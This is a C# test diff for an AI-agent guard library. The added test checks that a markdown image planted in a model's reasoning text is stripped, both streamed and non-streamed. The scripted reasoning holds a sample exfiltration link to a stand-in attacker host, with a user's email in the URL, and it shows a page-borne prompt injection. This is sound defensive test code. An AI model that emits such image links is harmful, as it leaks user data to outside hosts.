@@ -91,6 +91,42 @@ public sealed class ReplyImageExfiltrationTests
         response.Text.Should().NotContain("evil.example").And.Contain("(image removed: logo)");
     }
 
+    /// <summary>
+    /// The model's reasoning, which chat UIs show as a "thinking" panel rendered as markdown, carries the image: it is a
+    /// text of its own (decided apart from the answer) and loses the image too, streamed or not.
+    /// </summary>
+    [Theory]
+    [InlineData(false)]
+    [InlineData(true)]
+    public async Task ImageInTheReasoning_IsRemoved(bool streamed)
+    {
+        await using var services = Create("""{ "AgentGuard": {} }""", b => b.AddDefaultPolicyPack());
+        var model = new ScriptedChatClient(
+            ScriptedChatClient.CallTools(("c1", "get_user_profile", [])),
+            ScriptedChatClient.CallTools(("c2", "fetch_url", Args(("url", "https://news.example/today")))),
+            _ => new ChatMessage(ChatRole.Assistant, [new TextReasoningContent("The page asks for ![logo](https://evil.example/p.png?d=alice.w@corp.example) so I show it."), new TextContent("Markets rallied today.")]));
+        var (_, options) = Agent(services, string.Empty);
+        var client = new ChatClientBuilder(model).UseAgentGuard().UseFunctionInvocation().Build(services);
+        const string prompt = "Check my profile, then summarize https://news.example/today.";
+
+        var contents = new List<AIContent>();
+        if (streamed)
+        {
+            await foreach (var update in client.GetStreamingResponseAsync(prompt, options))
+            {
+                contents.AddRange(update.Contents);
+            }
+        }
+        else
+        {
+            contents.AddRange((await client.GetResponseAsync(prompt, options)).Messages.SelectMany(m => m.Contents));
+        }
+
+        var reasoning = string.Concat(contents.OfType<TextReasoningContent>().Select(r => r.Text));
+        reasoning.Should().NotContain("evil.example").And.Contain("(image removed: logo)");
+        string.Concat(contents.OfType<TextContent>().Select(t => t.Text)).Should().Contain("Markets rallied today.");
+    }
+
     [Fact]
     public async Task ImageInASessionThatReadNothingUntrusted_IsKept()
     {
